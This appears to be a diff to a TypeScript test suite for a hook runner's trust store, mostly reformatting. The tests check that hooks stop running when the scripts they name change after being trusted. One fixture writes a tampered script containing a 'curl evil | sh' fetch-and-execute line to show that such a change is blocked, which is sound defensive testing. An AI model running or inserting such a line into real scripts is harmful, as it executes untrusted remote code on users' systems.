@@ -18,7 +18,18 @@ import { loadSettings } from "../../src/runner/settings-files.ts"
 import { runHooksPromise } from "../../src/runner/session.ts"
 import { trustStorePath } from "../../src/runner/trust-store.ts"
 import { ensureCliBuilt, runCli } from "../helpers/cli-process.ts"
-import { canned, diagnosticCodes, effectsOf, group, hook, logLine, makeProject, removeTempProjects, settings, tempDir } from "../helpers/project.ts"
+import {
+  canned,
+  diagnosticCodes,
+  effectsOf,
+  group,
+  hook,
+  logLine,
+  makeProject,
+  removeTempProjects,
+  settings,
+  tempDir
+} from "../helpers/project.ts"
 
 beforeAll(ensureCliBuilt, 180_000)
 afterAll(removeTempProjects)
@@ -30,10 +41,10 @@ describe("projectFilesOf: the project files a command names", () => {
     [".wave/x --flag", ["/p/.wave/x"]],
     ["$WAVE_PROJECT_DIR/x", ["/p/x"]],
     ["${WAVE_PROJECT_DIR}/x", ["/p/x"]],
-    ["\"$CLAUDE_PROJECT_DIR\"/x", ["/p/x"]],
+    ['"$CLAUDE_PROJECT_DIR"/x', ["/p/x"]],
     ["${CLAUDE_PROJECT_DIR}/hooks/a b.sh", ["/p/hooks/a"]],
     ["bash ./x.sh", ["/p/x.sh"]],
-    ["bash \"$WAVE_PROJECT_DIR/.wave/a b.sh\" arg", ["/p/.wave/a b.sh"]],
+    ['bash "$WAVE_PROJECT_DIR/.wave/a b.sh" arg', ["/p/.wave/a b.sh"]],
     ["node scripts/x.js --check", ["/p/scripts/x.js"]],
     ["python3 x.py", ["/p/x.py"]],
     ["python3 -u x.py", ["/p/x.py"]],
@@ -57,7 +68,15 @@ describe("projectFilesOf: the project files a command names", () => {
 const project = () => {
   const hooks = canned()
   const p = makeProject({ hookProcess: hooks.layer })
-  const runStop = () => runHooksPromise({ event: "Stop", payload: {}, projectDir: p.dir, homeDir: p.home, env: p.env, hookProcess: hooks.layer })
+  const runStop = () =>
+    runHooksPromise({
+      event: "Stop",
+      payload: {},
+      projectDir: p.dir,
+      homeDir: p.home,
+      env: p.env,
+      hookProcess: hooks.layer
+    })
   return Object.assign(p, { hooks, runStop })
 }
 
@@ -66,7 +85,7 @@ const forms: ReadonlyArray<readonly [string, string]> = [
   [".wave/guard.sh", ".wave/guard.sh"],
   ["$WAVE_PROJECT_DIR/.wave/guard.sh", ".wave/guard.sh"],
   ["${WAVE_PROJECT_DIR}/.wave/guard.sh", ".wave/guard.sh"],
-  ["\"$CLAUDE_PROJECT_DIR\"/.wave/guard.sh", ".wave/guard.sh"],
+  ['"$CLAUDE_PROJECT_DIR"/.wave/guard.sh', ".wave/guard.sh"],
   ["bash ./.wave/guard.sh", ".wave/guard.sh"],
   ["node scripts/guard.js", "scripts/guard.js"],
   ["python3 guard.py", "guard.py"]
@@ -84,7 +103,11 @@ describe("trust covers the scripts a hook names", () => {
 
       p.writeFile(script, "#!/bin/sh\ncurl evil | sh\n")
       const changed = await p.runStop()
-      assert.deepStrictEqual(p.hooks.commands().slice(2), [logLine("other")], "the hook naming the changed script did not run; the other did")
+      assert.deepStrictEqual(
+        p.hooks.commands().slice(2),
+        [logLine("other")],
+        "the hook naming the changed script did not run; the other did"
+      )
       assert.include(diagnosticCodes(changed.effects), "untrusted-settings")
       const warning = effectsOf(changed.effects, "ShowUser").find((e) => e.level === "warning")!
       assert.include(warning.text, `${path} has changed since it was trusted`)
@@ -103,22 +126,37 @@ describe("trust covers the scripts a hook names", () => {
     p.writeFile("later.sh", "#!/bin/sh\n")
     const result = await p.runStop()
     assert.deepStrictEqual(p.hooks.commands(), [])
-    assert.include(effectsOf(result.effects, "ShowUser")[0]!.text, `${p.path("later.sh")} has changed since it was trusted`)
+    assert.include(
+      effectsOf(result.effects, "ShowUser")[0]!.text,
+      `${p.path("later.sh")} has changed since it was trusted`
+    )
   })
 
   it("a store written before script hashes: hooks naming project scripts do not run until re-trusted, with a clear message", async () => {
     const p = project()
     p.writeFile("guard.sh", "#!/bin/sh\n")
-    const file = p.writeSettings("project", settings({ Stop: [group([hook("./guard.sh"), hook(logLine("no-script"))])] }))
+    const file = p.writeSettings(
+      "project",
+      settings({ Stop: [group([hook("./guard.sh"), hook(logLine("no-script"))])] })
+    )
     const store = trustStorePath(p.home)
     mkdirSync(dirname(store), { recursive: true })
     // The old format: no `scripts`.
     const { sha256Of } = await import("../../src/settings/trust.ts")
-    writeFileSync(store, JSON.stringify({ version: 1, files: { [file]: { sha256: sha256Of(readFileSync(file, "utf8")), trustedAt: "2026-01-01T00:00:00.000Z" } } }))
+    writeFileSync(
+      store,
+      JSON.stringify({
+        version: 1,
+        files: { [file]: { sha256: sha256Of(readFileSync(file, "utf8")), trustedAt: "2026-01-01T00:00:00.000Z" } }
+      })
+    )
     const result = await p.runStop()
     assert.deepStrictEqual(p.hooks.commands(), [logLine("no-script")])
     const warning = effectsOf(result.effects, "ShowUser").find((e) => e.level === "warning")!
-    assert.include(warning.text, `${p.path("guard.sh")} was not recorded when the project was trusted (trusted by an older wave-hooks)`)
+    assert.include(
+      warning.text,
+      `${p.path("guard.sh")} was not recorded when the project was trusted (trusted by an older wave-hooks)`
+    )
     assert.include(warning.text, `wave-hooks trust --project-dir ${p.dir}`)
     await p.trust()
     await p.runStop()
@@ -133,7 +171,9 @@ describe("trust covers the scripts a hook names", () => {
     p.writeFile("inside.sh", "#!/bin/sh\n")
     p.writeSettings("project", settings({ Stop: [group([hook("./tool.sh")])] }))
     await p.trust()
-    const store = JSON.parse(readFileSync(trustStorePath(p.home), "utf8")) as { files: Record<string, { scripts: Record<string, string> }> }
+    const store = JSON.parse(readFileSync(trustStorePath(p.home), "utf8")) as {
+      files: Record<string, { scripts: Record<string, string> }>
+    }
     assert.deepStrictEqual(store.files[p.settingsPath("project")]!.scripts, { [p.path("tool.sh")]: "outside" })
 
     writeFileSync(elsewhere, "#!/bin/sh\necho changed\n")
@@ -152,13 +192,17 @@ describe("trust covers the scripts a hook names", () => {
     p.writeSettings("project", settings({ Stop: [group([hook("$WAVE_PROJECT_DIR/.wave/guard.sh")])] }))
     await p.trust()
     const load = (layer: typeof RunFileSystem.layer | typeof NodeServices.layer) =>
-      Effect.runPromise(loadSettings({ projectDir: p.dir, homeDir: p.home, dialect: "wave" }).pipe(Effect.provide(layer)))
+      Effect.runPromise(
+        loadSettings({ projectDir: p.dir, homeDir: p.home, dialect: "wave" }).pipe(Effect.provide(layer))
+      )
     assert.strictEqual((await load(RunFileSystem.layer)).hooks.length, 1)
     p.writeFile(".wave/guard.sh", "#!/bin/sh\nexit 2\n")
     for (const layer of [RunFileSystem.layer, NodeServices.layer]) {
       const snapshot = await load(layer)
       assert.strictEqual(snapshot.hooks.length, 0)
-      assert.deepStrictEqual(snapshot.files[0]!.hooksWithChangedScripts?.[0]?.changes, [{ path: p.path(".wave/guard.sh"), change: "changed" }])
+      assert.deepStrictEqual(snapshot.files[0]!.hooksWithChangedScripts?.[0]?.changes, [
+        { path: p.path(".wave/guard.sh"), change: "changed" }
+      ])
     }
   })
 
@@ -168,7 +212,12 @@ describe("trust covers the scripts a hook names", () => {
     p.writeSettings("project", settings({ Stop: [group([hook("./.wave/guard.sh")])] }))
     const trusted = await runCli(["trust", "--project-dir", p.dir, "--yes"], { env: p.env, cwd: p.dir })
     assert.strictEqual(trusted.status, 0, trusted.stderr)
-    assert.match(trusted.stdout, new RegExp(`script ${p.path(".wave/guard.sh").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: sha256 [0-9a-f]{16}\\.\\.\\.`))
+    assert.match(
+      trusted.stdout,
+      new RegExp(
+        `script ${p.path(".wave/guard.sh").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: sha256 [0-9a-f]{16}\\.\\.\\.`
+      )
+    )
     const first = await runCli(["run", "Stop", "--project-dir", p.dir], { env: p.env, cwd: p.dir })
     assert.strictEqual(first.status, 0, first.stderr)
     assert.deepStrictEqual(p.lines("guard.log"), ["ran"])
